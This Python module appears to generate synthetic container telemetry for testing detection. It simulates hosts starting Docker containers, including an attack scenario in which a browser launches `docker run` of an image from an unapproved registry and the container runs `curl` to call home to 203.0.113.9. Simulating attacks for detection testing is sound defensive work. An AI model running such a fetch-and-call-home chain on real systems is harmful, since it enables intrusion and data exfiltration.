"""Hosts that run containers, as Tetragon and the docker daemon tell of them: AN1317's telemetry."""

from collections.abc import Iterator
from random import Random

from . import linux
from .streams import Planted, Record, Story, Timed

EVIL, KNOWN = "registry.tools.example:5000/team/kit:latest", "docker.io/library/nginx:1.27"


class Fleet(linux.Fleet):
    """A fleet whose hosts start containers now and then, most of them approved ones."""

    def __init__(self, seed: int, hosts: int = 200) -> None:
        super().__init__(seed, hosts)
        self.containers = Random(f"{seed}/containers")

    def life(self, at: int) -> Iterator[Record]:
        yield from super().life(at)
        if self.containers.random() < 0.002:
            host = self.containers.choice(self.hosts)
            runner = host.process(at, "/usr/bin/docker", host.daemons[3], f"run --rm {KNOWN}")
            for _, record in (host.start(at, runner), *_lives(host, at, self._id(), KNOWN, "/docker-entrypoint.sh")[0]):
                yield record

    def attack(self, at: int) -> Story:
        """Behind a link in a browser `docker run` fetches an image of nobody's registry, and its container calls home."""
        return self._story(at, EVIL, "/entry.sh", 6_000, is_attack=True)

    def decoy(self, at: int) -> Story:
        """An approved image with the entry point that it should have; or a container that is quiet at first."""
        self.decoys += 1
        if self.decoys % 2:
            return self._story(at, KNOWN, "/docker-entrypoint.sh", 6_000)
        return self._story(at, EVIL, "/entry.sh", 150_000)

    def _story(self, at: int, image: str, entry: str, quiet: int, is_attack: bool = False) -> Story:
        host, id = self.stage.next(), self._id()
        browser = host.process(at, linux.FIREFOX, host.desktop)
        runner = host.process(at + 9_000, "/usr/bin/docker", browser, f"run -d --name kit {image}")
        records = [host.start(at, browser), host.start(at + 9_000, runner)]
        pulled = {"status": "pull", "id": image, "Type": "image", "Action": "pull"}
        records.append(
            (at + 12_000, {**pulled, "Actor": {"ID": image, "Attributes": {"name": "kit"}}, **_when(at + 12_000)})
        )
        lives, first = _lives(host, at + 13_000, id, image, entry)
        records += lives
        caller = host.process(at + 14_000 + quiet, "/usr/bin/curl", first, "-s https://203.0.113.9", docker=id[:24])
        records.append(host.start(at + 14_000 + quiet, caller))
        records.append(host.connection(at + 14_500 + quiet, caller, "203.0.113.9"))
        return Story(records, Planted("registry", host.name, records[-1][0]) if is_attack else None)

    def _id(self) -> str:
        return f"{self.containers.getrandbits(256):064x}"


def _lives(host: linux.Host, at: int, id: str, image: str, entry: str) -> tuple[list[Timed], linux.Row]:
    """A container is created and started; its first process."""
    shim = host.process(at, "/usr/bin/containerd-shim-runc-v2", host.init)
    first = host.process(at + 500, entry, shim, docker=id[:24])
    created, started = (_of_container(at + wait, action, id, image) for wait, action in ((0, "create"), (400, "start")))
    return [(at, created), (at + 400, started), host.start(at + 500, first)], first


def _of_container(at: int, action: str, id: str, image: str) -> Record:
    actor = {"ID": id, "Attributes": {"image": image, "name": "kit"}}
    return {
        "status": action,
        "id": id,
        "from": image,
        "Type": "container",
        "Action": action,
        "Actor": actor,
        **_when(at),
    }


def _when(at: int) -> Record:
    return {"scope": "local", "time": at // 1000, "timeNano": at * 1_000_000}
